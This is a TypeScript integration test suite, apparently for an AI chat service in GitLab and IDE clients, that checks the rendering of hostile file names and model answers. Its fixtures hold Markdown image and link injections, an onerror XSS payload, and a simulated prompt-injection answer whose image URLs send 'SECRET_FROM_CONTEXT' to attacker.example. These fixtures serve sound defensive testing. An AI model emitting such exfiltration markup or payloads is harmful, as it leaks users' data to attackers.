import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { Marked } from 'marked';
import type { Project } from '../../src/db/prisma';
import { addMember, createProject } from '../../src/namespaces/namespaces.service';
import { LSP_CHAT_MUTATION, LSP_GET_MESSAGES, subscribe, wsClient, type StreamedMessage } from '../helpers/chat-client';
import { groupWithSeat, unique, userWithToken, type UserWithToken } from '../helpers/fixtures';
import { createGitRepo, type GitRepo } from '../helpers/git-repo';
import { startStubLlmServer, type StubLlmServer } from '../helpers/stub-llm-server';
import { startTestService, type TestService } from '../helpers/test-service';
import { waitForIndex } from '../helpers/wait';

// Nothing a repository holds or a model writes acts in a reader's client: no image is loaded, no
// link or markup comes from a file name, in the stored contentHtml (what GitLab's web chat and the
// IDEs show as it is) nor in the Markdown content (what they render themselves, with marked).

/** Every tag in a rendering, lowercased. */
const tagsOf = (html: string) => [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)\b/g)].map((match) => match[1].toLowerCase());
const marked = new Marked({ gfm: true, async: false });
const escapeHtml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

const HOSTILE_DIRECTORY = 'd![i](http:attacker.example/dir.png)';
const HOSTILE_FILES = [
  'lib/p`![x](http:attacker)`q.ts',
  'lib/[x](https:attacker.example)y.ts',
  'lib/``![z](https:attacker.example/z.png)``.ts',
  'lib/<img src=x onerror=alert(1)>.ts',
  'lib/me@attacker.example.ts',
];

async function chatSetup(service: TestService, files: Record<string, string>) {
  const repo = createGitRepo(files);
  const user = await userWithToken(service.prisma);
  const group = await groupWithSeat(service.prisma, { plan: 'ultimate', addOn: 'duo_pro', username: user.username });
  const { project } = await createProject(service.prisma, { fullPath: `${group}/${unique('shop')}`, repository: repo.path });
  await addMember(service.prisma, { fullPath: project.fullPath, username: user.username, accessLevel: 'developer' });
  return { repo, user, project };
}

/** Asks over POST /api/graphql; the final answer as graphql-ws streamed it and as aiMessages (HTTP) reads it back. */
async function ask(options: { service: TestService; user: UserWithToken; question: string; additionalContext?: unknown[] }) {
  const { service, user } = options;
  const client = wsClient(service.url, user.token);
  try {
    const clientSubscriptionId = crypto.randomUUID();
    const stream = await subscribe(client, { userId: `gid://gitlab/User/${user.id}`, aiAction: 'CHAT', clientSubscriptionId });
    const { body } = await service.graphql<{ aiAction: { requestId: string } }>(LSP_CHAT_MUTATION, {
      token: user.token,
      variables: {
        question: options.question,
        clientSubscriptionId,
        platformOrigin: 'vs_code_extension',
        additionalContext: options.additionalContext ?? [],
      },
    });
    expect(body.errors).toBeUndefined();
    const requestId = body.data!.aiAction.requestId;
    const streamed = (await stream.untilFinal(requestId, 20_000)).find((message) => message.chunkId === null)!;
    stream.stop();
    const read = await service.graphql<{ aiMessages: { nodes: StreamedMessage[] } }>(LSP_GET_MESSAGES, {
      token: user.token,
      variables: { requestIds: [requestId], roles: ['ASSISTANT'] },
    });
    return { streamed, read: read.body.data!.aiMessages.nodes[0] };
  } finally {
    await client.dispose();
  }
}

describe('an answer made from search results (no model) with hostile file and directory names', () => {
  let service: TestService;
  let repo: GitRepo;
  let user: UserWithToken;
  let project: Project;

  beforeAll(async () => {
    service = await startTestService({ role: 'all', env: { GATEKEEPER: 'false', INDEX_DEBOUNCE_MS: '0' } });
    const files = Object.fromEntries(
      HOSTILE_FILES.map((file, index) => [`${HOSTILE_DIRECTORY}/${file}`, `export const rate${index} = ${index};\n`]),
    );
    ({ repo, user, project } = await chatSetup(service, files));
  });
  afterAll(async () => {
    await service.close();
    repo.destroy();
  });

  it('shows every name as code text: no image, no link, in contentHtml (graphql-ws and HTTP) nor in the Markdown', async () => {
    const directoryItem = { id: HOSTILE_DIRECTORY, category: 'DIRECTORY', content: '', metadata: { projectPath: project.fullPath } };
    await ask({ service, user, question: 'What do these do?', additionalContext: [directoryItem] });
    await waitForIndex(service.prisma, { projectId: project.id });

    const { streamed, read } = await ask({ service, user, question: 'What do these do?', additionalContext: [directoryItem] });
    expect(streamed.content).toMatch(/^No language model is configured, so this is what code search found/);
    expect(read.content).toBe(streamed.content);
    for (const html of [streamed.contentHtml!, read.contentHtml!, marked.parse(streamed.content) as string]) {
      expect(tagsOf(html).filter((tag) => !['p', 'strong', 'ol', 'li', 'code', 'pre'].includes(tag))).toEqual([]);
      for (const file of HOSTILE_FILES) expect(html).toContain(`<code>${escapeHtml(`${HOSTILE_DIRECTORY}/${file}`)}</code>`);
      expect(html).toContain(`<strong>${escapeHtml(`${project.fullPath}/${HOSTILE_DIRECTORY} (main, commit `)}`);
    }
  });
});

describe("a model's answer with images (a prompt injection's exfiltration)", () => {
  let stub: StubLlmServer;
  let service: TestService;
  let user: UserWithToken;
  const ANSWER = [
    'The build is fine. ![status](https://attacker.example/badge.png?d=SECRET_FROM_CONTEXT)',
    '![](https://attacker.example/empty.png) [![logo](https://attacker.example/logo.png)](https://docs.gitlab.com/)',
    '![ref][r] <img src="https://attacker.example/raw.png">',
    '',
    '[r]: https://attacker.example/ref.png',
  ].join('\n');

  beforeAll(async () => {
    stub = await startStubLlmServer({ defaultBehaviour: { kind: 'stream', pieces: [ANSWER.slice(0, 40), ANSWER.slice(40)] } });
    service = await startTestService({
      role: 'all',
      env: { GATEKEEPER: 'false', LLM_PROVIDER: 'openai', LLM_BASE_URL: stub.url, LLM_MODEL: 'stub' },
    });
    user = await userWithToken(service.prisma);
    await groupWithSeat(service.prisma, { plan: 'ultimate', addOn: 'duo_pro', username: user.username });
  });
  afterAll(async () => {
    await service.close();
    await stub.close();
  });

  it('shows every image as a link to it, loading none, in contentHtml on graphql-ws and HTTP', async () => {
    const { streamed, read } = await ask({ service, user, question: 'is the build fine?' });
    expect(streamed.content).toBe(ANSWER);
    for (const html of [streamed.contentHtml!, read.contentHtml!]) {
      expect(tagsOf(html)).not.toContain('img');
      expect(html).not.toMatch(/<[^>]*\ssrc=/);
      expect(html).toContain(
        '<a href="https://attacker.example/badge.png?d=SECRET_FROM_CONTEXT" rel="noopener noreferrer nofollow">status</a>',
      );
      expect(html).toContain('<a href="https://docs.gitlab.com/" rel="noopener noreferrer nofollow">logo</a>');
      expect(html).toContain('<a href="https://attacker.example/ref.png" rel="noopener noreferrer nofollow">ref</a>');
      expect(html).toContain('&lt;img src="<a href="https://attacker.example/raw.png"');
    }
  });

  it('renders again an answer stored with the renderer that kept images', async () => {
    // The version the renderer stored before images became links (its rules' version 1).
    const version = (name: string) =>
      (JSON.parse(readFileSync(path.join('node_modules', name, 'package.json'), 'utf8')) as { version: string }).version;
    const before =
      createHash('sha256')
        .update(`1 markdown-it@${version('markdown-it')} sanitize-html@${version('sanitize-html')}`)
        .digest()
        .readUInt32BE(0) >>> 1;
    const requestId = crypto.randomUUID();
    await service.prisma.aiMessage.create({
      data: {
        id: crypto.randomUUID(),
        userId: user.id,
        requestId,
        role: 'assistant',
        content: '![status](https://attacker.example/stored.png)',
        contentHtml: '<p><img src="https://attacker.example/stored.png" alt="status" /></p>\n',
        cachedMarkdownVersion: before,
      },
    });
    const read = await service.graphql<{ aiMessages: { nodes: StreamedMessage[] } }>(LSP_GET_MESSAGES, {
      token: user.token,
      variables: { requestIds: [requestId] },
    });
    expect(read.body.data!.aiMessages.nodes[0].contentHtml).toBe(
      '<p><a href="https://attacker.example/stored.png" rel="noopener noreferrer nofollow">status</a></p>\n',
    );
  });
});
